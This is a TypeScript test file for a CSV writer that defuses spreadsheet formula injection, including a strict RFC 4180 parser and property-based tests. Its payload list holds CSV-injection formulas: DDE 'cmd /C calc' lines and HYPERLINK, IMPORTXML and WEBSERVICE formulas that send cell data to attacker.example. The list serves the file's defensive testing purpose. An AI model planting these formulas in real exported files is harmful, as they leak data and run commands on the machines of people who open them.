import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvField, isFormulaLike, toCsv, type CsvValue } from './csv.js';

/**
 * A strict RFC 4180 reader, for these tests only: fields split by commas, quoted fields with
 * doubled inner quotes, lines ended by CRLF or LF, an optional byte-order mark.
 */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = text.startsWith('\uFEFF') ? 1 : 0;
  while (i < text.length) {
    let field = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unclosed quote');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            field += '"';
            i += 2;
          } else {
            i++;
            break;
          }
        } else field += text[i++];
      }
    } else {
      while (i < text.length && !',\r\n'.includes(text[i]!)) {
        if (text[i] === '"') throw new Error(`bare quote at ${i}`);
        field += text[i++];
      }
    }
    row.push(field);
    if (text[i] === ',') {
      i++;
      if (i === text.length) row.push('');
    } else if (text.startsWith('\r\n', i) || text[i] === '\n') {
      i += text[i] === '\r' ? 2 : 1;
      rows.push(row);
      row = [];
    } else if (i < text.length) throw new Error(`unexpected ${JSON.stringify(text[i])} at ${i}`);
  }
  if (row.length > 0) rows.push(row);
  return rows;
}

/** What a spreadsheet would still take for a formula in a parsed cell. */
const live = (cell: string) => isFormulaLike(cell);

/**
 * The classic formula payloads (as in OWASP's CSV injection page and the usual payload lists),
 * and the variants that slip past a check of the first character only.
 */
const payloads = [
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
  '=IMPORTXML(CONCAT("http://attacker.example/?v=",A1),"//a")',
  '=WEBSERVICE("http://attacker.example/"&A1)',
  '=DDE("cmd";"/C calc";"!A0")',
  '=1+2";=1+2',
  '\t=1+1',
  '\r=1+1',
  '\n-1+1',
  '   =1+1',
  '\u3000＝1+1',
];

describe('csvField', () => {
  it('leaves none of the 14 classic formula payloads live', () => {
    expect(payloads).toHaveLength(14);
    for (const payload of payloads) {
      expect(live(payload)).toBe(true);
      const [[cell]] = parseCsv(toCsv([[payload]])) as [[string]];
      expect(live(cell)).toBe(false);
      expect(cell).toBe(`'${payload}`);
    }
  });

  it('defuses full-width formula signs, and signs after leading white space', () => {
    for (const text of [
      '＝1+1',
      '＋1',
      '－1',
      '＠SUM(A1)',
      ' =1',
      '\u00a0+1',
      ' \t@x',
      '\u3000-1',
    ]) {
      expect(csvField(text)).toMatch(/^"?'/);
    }
  });

  it('quotes per RFC 4180 and leaves plain text alone', () => {
    expect(csvField('新居民之家')).toBe('新居民之家');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\r\nlines')).toBe('"two\r\nlines"');
    expect(csvField("it's -1")).toBe("it's -1");
    expect(csvField('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
  });

  it('writes numbers, bigints and booleans as they print, never defused', () => {
    expect(csvField(-3)).toBe('-3');
    expect(csvField(-12n)).toBe('-12');
    expect(csvField(false)).toBe('false');
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
    // text that merely looks like a number may come from a user: it is checked
    expect(csvField('-3')).toBe("'-3");
  });
});

describe('toCsv', () => {
  it('ends lines with CRLF by default, LF on request, and can start with a BOM', () => {
    expect(
      toCsv(
        [
          ['rank', 'project'],
          [1, '新居民之家'],
        ],
        { byteOrderMark: true },
      ),
    ).toBe('\uFEFFrank,project\r\n1,新居民之家\r\n');
    expect(toCsv([['title'], ['@SUM(1+1)']], { lineEnd: '\n' })).toBe("title\n'@SUM(1+1)\n");
    expect(toCsv([])).toBe('');
  });

  // Text from anywhere, with the characters that matter here over-represented.
  const tricky = fc.constantFrom(
    '=',
    '+',
    '-',
    '@',
    '＝',
    '＋',
    '－',
    '＠',
    '\t',
    '\r',
    '\n',
    ' ',
    '\u3000',
    '"',
    ',',
    "'",
    '\0',
  );
  const text = fc.oneof(
    fc.string({ unit: 'grapheme', maxLength: 12 }),
    fc.string({ unit: fc.oneof(tricky, fc.string({ minLength: 1, maxLength: 1 })), maxLength: 8 }),
    fc.constantFrom(...payloads),
  );
  const value: fc.Arbitrary<CsvValue> = fc.oneof(
    { weight: 6, arbitrary: text },
    { weight: 1, arbitrary: fc.double({ noNaN: true }) },
    { weight: 1, arbitrary: fc.bigInt() },
    { weight: 1, arbitrary: fc.boolean() },
  );

  it('reads back as the original text with at most the defusing prefix, none of it live', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(value, { minLength: 1, maxLength: 5 }), { maxLength: 6 }),
        fc.constantFrom('\r\n' as const, '\n' as const),
        fc.boolean(),
        (rows, lineEnd, byteOrderMark) => {
          const parsed = parseCsv(toCsv(rows, { lineEnd, byteOrderMark }));
          expect(parsed).toHaveLength(rows.length);
          rows.forEach((row, r) => {
            expect(parsed[r]).toHaveLength(row.length);
            row.forEach((original, c) => {
              const cell = parsed[r]![c]!;
              if (typeof original === 'string') {
                expect(cell).toBe(isFormulaLike(original) ? `'${original}` : original);
                expect(live(cell)).toBe(false);
              } else {
                expect(cell).toBe(String(original));
              }
            });
          });
        },
      ),
      { numRuns: 500 },
    );
  });
});
